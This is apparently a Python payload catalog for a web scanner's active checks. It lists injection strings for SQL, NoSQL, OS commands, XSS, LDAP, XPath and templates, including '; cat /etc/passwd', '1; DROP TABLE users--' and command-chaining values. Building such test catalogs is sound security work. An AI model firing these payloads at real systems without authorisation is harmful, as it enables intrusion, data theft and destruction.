"""Versioned attack strings used by the active checks.

Every accessor returns a fresh list, the underlying tuples never change.
"""

from typing import Iterable, List

CATALOG_VERSION = "1.0"

# ── SQL injection ───────────────────────────────────────────

SQL_ERROR = (
    "'",
    "\"",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR '1'='1' --",
    "\" OR \"1\"=\"1\" --",
    "'; --",
    "\"; --",
    "1' OR '1'='1",
    "1\" OR \"1\"=\"1",
    "' AND '1'='2",
    "') OR ('1'='1",
    "')) OR (('1'='1",
    "1 OR 1=1",
    "1' OR 1=1 --",
    "admin'--",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "1; DROP TABLE users--",
)

SQL_TIME_BASED = (
    # mysql
    "' OR SLEEP(5)--",
    "1' AND SLEEP(5)--",
    "'; WAITFOR DELAY '0:0:5'--",
    # postgres
    "'; SELECT pg_sleep(5)--",
    "' OR pg_sleep(5)--",
    # mssql
    "'; WAITFOR DELAY '00:00:05'--",
    "1; WAITFOR DELAY '00:00:05'--",
    # oracle
    "' OR DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
    # sqlite
    "' OR randomblob(500000000)--",
)

# ── NoSQL injection ─────────────────────────────────────────

MONGODB = (
    # operators
    "{\"$gt\":\"\"}",
    "{\"$ne\":null}",
    "{\"$ne\":\"\"}",
    "{\"$gt\":0}",
    "{\"$gte\":0}",
    "{\"$exists\":true}",
    "{\"$regex\":\".*\"}",
    # $where
    "'; return true; //",
    "'; return '1'=='1'; //",
    "1; return true; })",
    "'; return this.password; //",
    # arrays
    "{\"$in\":[true,false]}",
    "{\"$nin\":[]}",
    # booleans
    "true",
    "false",
    "null",
)

COUCHDB = (
    "{\"_id\":\"_all_docs\"}",
    "{\"selector\":{\"$or\":[{\"_id\":{\"$gt\":null}}]}}",
    "\"_all_docs\"",
    "{\"keys\":[]}",
    "{\"startkey\":\"\",\"endkey\":\"\\ufff0\"}",
)

# ── OS command injection ────────────────────────────────────

UNIX_COMMAND = (
    "; id",
    "| id",
    "|| id",
    "&& id",
    "`id`",
    "$(id)",
    "; whoami",
    "| whoami",
    "$(whoami)",
    "; cat /etc/passwd",
    "| cat /etc/passwd",
    "; sleep 5",
    "| sleep 5",
    "$(sleep 5)",
    "`sleep 5`",
    "; ping -c 5 127.0.0.1",
    "| ls -la",
    "; uname -a",
    "\n id",
    "\r\n id",
)

WINDOWS_COMMAND = (
    "& whoami",
    "| whoami",
    "|| whoami",
    "&& whoami",
    "& dir",
    "| dir",
    "& type C:\\Windows\\win.ini",
    "& ping -n 5 127.0.0.1",
    "& timeout /t 5",
    "| net user",
    "& ipconfig /all",
    "& systeminfo",
    "\r\n whoami",
    "& echo %USERNAME%",
)

COMMAND_TIME_BASED = (
    "; sleep 5",
    "| sleep 5",
    "$(sleep 5)",
    "& timeout /t 5",
    "| ping -n 5 127.0.0.1",
)

# ── XSS ─────────────────────────────────────────────────────

XSS_BASIC = (
    "<script>alert(1)</script>",
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "'\"><script>alert(1)</script>",
    "\"'><script>alert(1)</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<div onmouseover=\"alert(1)\">hover</div>",
)

XSS_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr%00ipt>alert(1)</scr%00ipt>",
    "%253Cscript%253Ealert(1)%253C/script%253E",
)

XSS_EVENT_HANDLER = (
    "\" onmouseover=\"alert(1)\"",
    "' onmouseover='alert(1)'",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "' onfocus='alert(1)' autofocus='",
    "\" onclick=\"alert(1)\"",
    "' onerror='alert(1)'",
    "\" onload=\"alert(1)\"",
    "' onchange='alert(1)'",
)

# ── LDAP / XPath ────────────────────────────────────────────

LDAP = (
    "*",
    ")",
    "*))",
    "*))%00",
    ")(cn=*",
    ")(|(cn=*",
    "*)(uid=*))(|(uid=*",
    "*()|%26'",
    "admin)(&)",
    "admin)(|(password=*)",
    "*))(|(objectClass=*",
    "x)(|(objectClass=*",
    "*)(objectClass=user))",
    "admin)(!(&(1=0",
    "*))(|(uid=*))(",
    "*))%00",
)

XPATH = (
    "'",
    "\"",
    "' or '1'='1",
    "\" or \"1\"=\"1",
    "' or ''='",
    "\" or \"\"=\"",
    "') or ('1'='1",
    "\") or (\"1\"=\"1",
    "1 or 1=1",
    "' or 1=1 or '",
    "\" or 1=1 or \"",
    "']|//password|/foo['",
    "\"]/password/text()|/foo[\"",
    "' or count(//*)>0 or '",
    "' or string-length(//*)>0 or '",
    "' and '1'='2' or '",
    "']//*|//*['",
    "admin' or '1'='1",
)

# ── template injection ──────────────────────────────────────

TEMPLATE_INJECTION = (
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "{{config}}",
    "{{self.__class__}}",
    "${\"freemarker\".class}",
    "#set($x=7*7)$x",
    "<%= system('id') %>",
)

QUICK_TEST = (
    "'",
    "{\"$gt\":\"\"}",
    "; id",
    "<script>alert(1)</script>",
    "*",
    "' or '1'='1",
)


def sql_error_payloads() -> List[str]:
    return list(SQL_ERROR)


def sql_time_based_payloads() -> List[str]:
    return list(SQL_TIME_BASED)


def all_sql_payloads() -> List[str]:
    return list(SQL_ERROR + SQL_TIME_BASED)


def mongodb_payloads() -> List[str]:
    return list(MONGODB)


def couchdb_payloads() -> List[str]:
    return list(COUCHDB)


def all_nosql_payloads() -> List[str]:
    return list(MONGODB + COUCHDB)


def unix_command_payloads() -> List[str]:
    return list(UNIX_COMMAND)


def windows_command_payloads() -> List[str]:
    return list(WINDOWS_COMMAND)


def all_command_payloads() -> List[str]:
    return list(UNIX_COMMAND + WINDOWS_COMMAND)


def command_time_based_payloads() -> List[str]:
    return list(COMMAND_TIME_BASED)


def basic_xss_payloads() -> List[str]:
    return list(XSS_BASIC)


def encoded_xss_payloads() -> List[str]:
    return list(XSS_ENCODED)


def event_handler_xss_payloads() -> List[str]:
    return list(XSS_EVENT_HANDLER)


def all_xss_payloads() -> List[str]:
    return list(XSS_BASIC + XSS_ENCODED + XSS_EVENT_HANDLER)


def ldap_payloads() -> List[str]:
    return list(LDAP)


def xpath_payloads() -> List[str]:
    return list(XPATH)


def template_injection_payloads() -> List[str]:
    return list(TEMPLATE_INJECTION)


def quick_test_payloads() -> List[str]:
    return list(QUICK_TEST)


def append_to_value(original: str, payloads: Iterable[str]) -> List[str]:
    """original + payload for each payload."""
    return [f"{original}{p}" for p in payloads]
